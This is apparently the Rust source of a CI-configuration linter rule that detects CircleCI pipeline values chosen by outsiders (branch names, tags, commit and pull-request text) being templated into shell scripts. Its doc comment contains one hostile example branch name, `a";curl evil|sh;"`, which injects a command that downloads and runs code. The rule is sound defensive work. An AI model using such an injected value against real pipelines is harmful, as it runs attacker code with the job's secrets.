//! `script-injection`: a value of the pipeline that a stranger sets is put into a script by a
//! template: the branch's name, the tag, the title or the message of what was pushed.

use std::ops::Range;

use crate::finding::Finding;
use crate::hash::HashSet;
use crate::lint::Context;
use crate::lint::context::runs;
use crate::lint::rule::declare_rule;
use crate::plan::{FilterKind, Job};
use crate::yaml::Location;

declare_rule! {
    /// # What it does
    /// A value of the pipeline that a stranger sets is put into a script by a template: the
    /// branch's name, the tag, the title or the message of what was pushed.
    ///
    /// # Why is this bad
    /// The text becomes part of the script before the shell reads it: a branch that is called
    /// `a";curl evil|sh;"` runs as a command, with the secrets of the job.
    ///
    /// # Example
    /// ```yaml
    /// - run: echo "building << pipeline.git.branch >>"
    /// ```
    ///
    /// # Use instead
    /// ```yaml
    /// - run: echo "building $CIRCLE_BRANCH"
    /// ```
    ///
    /// # What holdall cannot know
    /// Who may push branches and open pull requests here, and whether builds of forks get
    /// secrets.
    ///
    /// # References
    /// - https://circleci.com/docs/pipeline-variables/
    /// - https://owasp.org/www-project-top-10-ci-cd-security-risks/
    SCRIPT_INJECTION: "script-injection", Security, Error, check
}

/// Values that whoever pushes or writes a comment chooses, by how their names begin, with what to
/// use in their place.
const CHOSEN: [(&str, &str); 9] = [
    ("pipeline.git.branch", "$CIRCLE_BRANCH"),
    ("pipeline.git.tag", "$CIRCLE_TAG"),
    ("pipeline.git.commit.subject", ""),
    ("pipeline.git.commit.body", ""),
    ("pipeline.event.github.pull_request.title", ""),
    ("pipeline.event.github.pull_request.head.ref", ""),
    ("pipeline.event.github.comment.body", ""),
    ("pipeline.trigger_parameters.webhook.body", ""),
    ("pipeline.event.github.ref", ""),
];

fn check(context: &Context<'_>, out: &mut Vec<Finding>) {
    let mut told = HashSet::default();
    for job in context.jobs() {
        for (_, run) in runs(job) {
            let Some(script) = context.script(run) else {
                continue;
            };
            for (range, chosen, instead) in chosen(&script.text) {
                // Of fixed names nobody chooses one.
                let fixed = chosen == "pipeline.git.branch" && only_fixed_branches(job);
                let at = script.at(range);
                if fixed || !told.insert(at) {
                    continue;
                }
                out.push(report(at, chosen, instead));
            }
        }
    }
}

/// Returns the references of a script to values that a stranger chooses.
fn chosen(text: &str) -> Vec<(Range<usize>, &'static str, &'static str)> {
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(open) = text[from..].find("<<").map(|i| from + i) {
        let Some(close) = text[open..].find(">>").map(|i| open + i + 2) else {
            break;
        };
        from = close;
        let name = text[open + 2..close - 2].trim();
        if let Some((chosen, instead)) = CHOSEN.iter().find(|(n, _)| name == *n) {
            out.push((open..close, *chosen, *instead));
        }
    }
    out
}

/// Says whether nobody can choose the branch that a job runs for: it runs for certain names only,
/// or for no branch at all.
fn only_fixed_branches(job: &Job) -> bool {
    job.filters.as_ref().is_some_and(|f| match &f.kind {
        FilterKind::Map {
            branches: Some(rule),
            ..
        } if rule.only.is_empty() => rule.ignore.iter().any(|b| b.value == "/.*/"),
        FilterKind::Map {
            branches: Some(rule),
            ..
        } => rule.only.iter().all(|b| !b.value.starts_with('/')),
        _ => false,
    })
}

fn report(at: Location, chosen: &str, instead: &str) -> Finding {
    let help = match instead {
        "" => "put it into the step's `environment`, and use the variable in quotes".to_owned(),
        variable => format!("use the variable that the service sets, in quotes: `\"{variable}\"`"),
    };
    SCRIPT_INJECTION
        .finding(
            "a stranger's text in a script",
            at,
            format!("whoever pushes chooses `{chosen}`"),
        )
        .help(help)
        .done()
}
